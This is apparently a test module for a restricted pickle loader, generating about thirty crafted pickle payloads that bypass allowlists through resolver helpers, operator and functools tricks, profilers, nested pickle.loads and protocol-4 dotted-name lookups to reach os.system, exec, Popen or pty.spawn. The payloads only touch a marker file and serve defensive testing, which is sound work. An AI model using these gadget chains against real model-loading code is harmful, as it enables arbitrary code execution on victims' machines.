"""Families 2 and 3: reaching a dangerous callable without naming it as a plain global.

Family 2 uses resolver functions (``pkgutil.resolve_name``, ``operator`` getters, profilers...).
Family 3 uses protocol 4's dotted-name lookup: ``find_class('numpy', 'load.__globals__')`` walks
attributes, so an allowed module name can lead anywhere unless dots are never resolved.
Several payloads start from names genuine files need (``builtins.getattr``,
``sklearn.utils.validation.check_array``) so only the deeper checks can stop them.
"""

from __future__ import annotations

from .helpers import getattr_
from .opcodes import Call, Get, Global, Put, assemble
from .registry import MALFORMED, Target, payload

F2 = "indirect"
F3 = "dotted"

CHECK_ARRAY = Global("sklearn.utils.validation", "check_array")


@payload("pkgutil.resolve_name", F2, mentions=("resolve_name",))
def pkgutil_resolve(t: Target) -> bytes:
    """``pkgutil.resolve_name('os:system')('touch MARKER')``."""
    system = Call(Global("pkgutil", "resolve_name"), ("os:system",))
    return assemble(Call(system, (t.touch,)), protocol=4)


@payload("operator.attrgetter-itemgetter", F2, mentions=("getter",))
def operator_getters(t: Target) -> bytes:
    """``itemgetter('exec')(attrgetter('__builtins__')(check_array))(SRC)``."""
    builtins_dict = Call(Call(Global("operator", "attrgetter"), ("__builtins__",)), (CHECK_ARRAY,))
    exec_ = Call(Call(Global("operator", "itemgetter"), ("exec",)), (builtins_dict,))
    return assemble(Call(exec_, (t.python,)), protocol=4)


@payload("operator.methodcaller-os", F2, mentions=("methodcaller",))
def operator_methodcaller(t: Target) -> bytes:
    """``methodcaller('system', 'touch MARKER')(joblib.numpy_pickle.os)``."""
    caller = Call(Global("operator", "methodcaller"), ("system", t.touch))
    return assemble(Call(caller, (Global("joblib.numpy_pickle", "os"),)), protocol=4)


@payload("functools.reduce-getattr", F2, mentions=("reduce",))
def functools_reduce(t: Target) -> bytes:
    """``functools.reduce(getattr, ['system'], joblib.numpy_pickle.os)('touch MARKER')``."""
    system = Call(
        Global("functools", "reduce"),
        (Global("builtins", "getattr"), ["system"], Global("joblib.numpy_pickle", "os")),
    )
    return assemble(Call(system, (t.touch,)), protocol=4)


@payload("functools.partial-os.system", F2, mentions=("system",))
def functools_partial(t: Target) -> bytes:
    """``functools.partial(os.system, 'touch MARKER')()``: partial is allowed, os.system is not."""
    bound = Call(Global("functools", "partial"), (Global("os", "system"), t.touch))
    return assemble(Call(bound, ()), protocol=2)


@payload("getattr-__self__-builtins-eval", F2)
def getattr_self(t: Target) -> bytes:
    """``getattr(getattr(getattr, '__self__'), 'exec')(SRC)``: only builtins.getattr is named."""
    builtins_module = getattr_(Global("builtins", "getattr"), "__self__")
    return assemble(Call(getattr_(builtins_module, "exec"), (t.python,)), protocol=4)


@payload("getattr-__globals__-joblib.load", F2)
def getattr_globals(t: Target) -> bytes:
    """``check_array.__globals__.get('joblib').load(EVIL_PICKLE)`` via getattr only.

    Every global it names is allowed (getattr, check_array); the nested file runs os.system.
    """
    globals_ = getattr_(CHECK_ARRAY, "__globals__")
    joblib_module = Call(getattr_(globals_, "get"), ("joblib",))
    return assemble(Call(getattr_(joblib_module, "load"), (str(t.evil_pickle()),)), protocol=4)


@payload("getattr-__builtins__-exec", F2)
def getattr_builtins(t: Target) -> bytes:
    """``getattr(check_array, '__builtins__').get('exec')(SRC)`` via allowed names only."""
    builtins_dict = getattr_(CHECK_ARRAY, "__builtins__")
    exec_ = Call(getattr_(builtins_dict, "get"), ("exec",))
    return assemble(Call(exec_, (t.python,)), protocol=4)


@payload("getattr-memo-reuse-globals", F2)
def getattr_memo(t: Target) -> bytes:
    """``check_array.__globals__.get('np').memmap(MARKER, ...)``, getattr reused via the memo."""
    # The first getattr emitted stores itself in memo slot 0; the inner ones fetch it back.
    globals_ = Call(Get(0), (CHECK_ARRAY, "__globals__"))
    np_module = Call(Call(Get(0), (globals_, "get")), ("np",))
    memmap = Call(Put(Global("builtins", "getattr"), 0), (np_module, "memmap"))
    return assemble(Call(memmap, (str(t.marker), "uint8", "w+", 0, (16,))), protocol=4)


@payload("copyreg._reconstructor-Popen", F2, mentions=("Popen", "_reconstructor"))
def copyreg_reconstructor(t: Target) -> bytes:
    """``copyreg._reconstructor(Popen, Popen, ARGV)`` runs ``Popen.__init__(obj, ARGV)``."""
    popen = Global("subprocess", "Popen")
    return assemble(Call(Global("copyreg", "_reconstructor"), (popen, popen, t.argv)), protocol=2)


@payload("copyreg._reconstructor-base-not-object", F2, expect=MALFORMED)
def copyreg_reconstructor_base(t: Target) -> bytes:
    """``copyreg._reconstructor(FunctionTransformer, functools.partial, SRC)``.

    Only allowed names, but with a base other than ``object`` the helper calls
    ``base.__new__`` / ``base.__init__`` with attacker state; genuine files only pass ``object``.
    (This pair fails with TypeError if it runs; the loader must still answer with a refusal.)
    """
    cls = Global("sklearn.preprocessing._function_transformer", "FunctionTransformer")
    base = Global("functools", "partial")
    return assemble(Call(Global("copyreg", "_reconstructor"), (cls, base, t.python)), protocol=2)


@payload("numpy.core._ufunc_reconstruct-pty", F2, modules=("pty",), mentions=("_ufunc",))
def ufunc_reconstruct(t: Target) -> bytes:
    """``numpy.core._ufunc_reconstruct('pty', 'spawn')(ARGV)``: numpy's import-anything helper."""
    spawn = Call(Global("numpy.core", "_ufunc_reconstruct"), ("pty", "spawn"))
    return assemble(Call(spawn, (t.argv,)), protocol=2)


@payload("numpy._core._ufunc_reconstruct-os", F2, mentions=("_ufunc",))
def ufunc_reconstruct_os(t: Target) -> bytes:
    """``numpy.core._ufunc_reconstruct('os', 'system')('touch MARKER')`` under protocol 4."""
    system = Call(Global("numpy.core", "_ufunc_reconstruct"), ("os", "system"))
    return assemble(Call(system, (t.touch,)), protocol=4)


@payload("cProfile.run", F2, modules=("cProfile", "profile"), mentions=("cProfile", "run"))
def cprofile_run(t: Target) -> bytes:
    """``cProfile.run(SRC)``: profilers exec their statement."""
    return assemble(Call(Global("cProfile", "run"), (t.python,)), protocol=4)


@payload("profile.run", F2, modules=("profile",), mentions=("profile",))
def profile_run(t: Target) -> bytes:
    """``profile.run(SRC)``."""
    return assemble(Call(Global("profile", "run"), (t.python,)), protocol=2)


@payload("trace.Trace.run", F2, modules=("trace",), mentions=("trace", "Trace"))
def trace_run(t: Target) -> bytes:
    """``trace.Trace().run(SRC)``."""
    tracer = Call(Global("trace", "Trace"), ())
    return assemble(Call(getattr_(tracer, "run"), (t.python,)), protocol=4)


@payload("timeit.timeit", F2, mentions=("timeit",))
def timeit_timeit(t: Target) -> bytes:
    """``timeit.timeit(SRC, 'pass', time.perf_counter, 1)``: timeit compiles and runs SRC."""
    args = (t.python, "pass", Global("time", "perf_counter"), 1)
    return assemble(Call(Global("timeit", "timeit"), args), protocol=4)


@payload("sys.modules-os", F2, mentions=("modules", "sys"))
def sys_modules(t: Target) -> bytes:
    """``getattr(sys.modules.get('os'), 'system')('touch MARKER')``."""
    os_module = Call(getattr_(Global("sys", "modules"), "get"), ("os",))
    return assemble(Call(getattr_(os_module, "system"), (t.touch,)), protocol=4)


@payload("__builtin__.eval-fix_imports", F2, mentions=("eval",))
def builtin_py2(t: Target) -> bytes:
    """Python 2 spelling ``__builtin__.eval``; fix_imports maps it to ``builtins.eval``."""
    source = f"__import__('os').system({t.touch!r})"
    return assemble(Call(Global("__builtin__", "eval"), (source,)), protocol=2)


@payload("pickle.loads-nested", F2, mentions=("loads", "pickle"))
def pickle_loads(t: Target) -> bytes:
    """``pickle.loads(b'...os.system...')``: a nested pickle behind a REDUCE."""
    inner = assemble(Call(Global("os", "system"), (t.touch,)), protocol=2)
    return assemble(Call(Global("pickle", "loads"), (inner,)), protocol=4)


@payload("_pickle.loads-nested", F2, mentions=("loads", "pickle"))
def c_pickle_loads(t: Target) -> bytes:
    """``_pickle.loads(b'...os.system...')``."""
    inner = assemble(Call(Global("os", "system"), (t.touch,)), protocol=2)
    return assemble(Call(Global("_pickle", "loads"), (inner,)), protocol=3)


# -- Family 3: dotted names under protocol 4 ---------------------------------------------------


@payload("dotted-numpy-load.__globals__", F3, mentions=("load",))
def dotted_numpy_load_globals(t: Target) -> bytes:
    """``find_class('numpy', 'load.__globals__')['pickle'].loads(EVIL)``."""
    globals_ = Global("numpy", "load.__globals__", "stack")
    pickle_module = Call(getattr_(globals_, "get"), ("pickle",))
    inner = assemble(Call(Global("os", "system"), (t.touch,)), protocol=2)
    return assemble(Call(getattr_(pickle_module, "loads"), (inner,)), protocol=4)


@payload("dotted-builtins-getattr.__self__", F3, mentions=("getattr",))
def dotted_getattr_self(t: Target) -> bytes:
    """``find_class('builtins', 'getattr.__self__')``: the builtins module, then ``exec``."""
    builtins_module = Global("builtins", "getattr.__self__", "stack")
    return assemble(Call(getattr_(builtins_module, "exec"), (t.python,)), protocol=4)


@payload("dotted-joblib.numpy_pickle-os.system", F3, mentions=("os",))
def dotted_joblib_os(t: Target) -> bytes:
    """``find_class('joblib.numpy_pickle', 'os.system')``: os.system under an allowed module."""
    system = Global("joblib.numpy_pickle", "os.system", "stack")
    return assemble(Call(system, (t.touch,)), protocol=4)


@payload("dotted-GLOBAL-opcode-protocol4", F3, mentions=("os",))
def dotted_global_opcode(t: Target) -> bytes:
    """Text GLOBAL ``joblib.numpy_pickle os.system`` inside a protocol 4 stream (dots resolve)."""
    system = Global("joblib.numpy_pickle", "os.system", "global")
    return assemble(Call(system, (t.touch,)), protocol=4)


@payload("dotted-os.path-os.system", F3, mentions=("os",))
def dotted_os_path(t: Target) -> bytes:
    """``find_class('os.path', 'os.system')``: posixpath imports os."""
    return assemble(Call(Global("os.path", "os.system", "stack"), (t.touch,)), protocol=4)


@payload("dotted-numpy-os.system", F3, mentions=("os",))
def dotted_numpy_os(t: Target) -> bytes:
    """``find_class('numpy', 'os.system')`` (works wherever the module imported os)."""
    return assemble(Call(Global("numpy", "os.system", "stack"), (t.touch,)), protocol=4)


@payload("dotted-check_array-np.memmap", F3, mentions=("memmap", "np"))
def dotted_validation_np(t: Target) -> bytes:
    """``find_class('sklearn.utils.validation', 'np.memmap')(MARKER, 'uint8', 'w+', 0, (16,))``."""
    memmap = Global("sklearn.utils.validation", "np.memmap", "stack")
    return assemble(Call(memmap, (str(t.marker), "uint8", "w+", 0, (16,))), protocol=4)


@payload(
    "dotted-sklearn-utils._testing",
    F3,
    modules=("sklearn.utils._testing",),
    mentions=("_testing", "check_output"),
)
def dotted_sklearn_testing(t: Target) -> bytes:
    """``find_class('sklearn', 'utils._testing.check_output')(ARGV)``: submodule + subprocess."""
    check = Global("sklearn", "utils._testing.check_output", "stack")
    return assemble(Call(check, (t.argv,)), protocol=4)


@payload("dotted-Tree-class-__init__.__globals__", F3)
def dotted_tree_globals(t: Target) -> bytes:
    """``find_class('sklearn.tree._classes', 'DecisionTreeClassifier.fit.__globals__')``."""
    globals_ = Global("sklearn.tree._classes", "DecisionTreeClassifier.fit.__globals__", "stack")
    np_module = Call(getattr_(globals_, "get"), ("np",))
    memmap = getattr_(np_module, "memmap")
    return assemble(Call(memmap, (str(t.marker), "uint8", "w+", 0, (16,))), protocol=4)
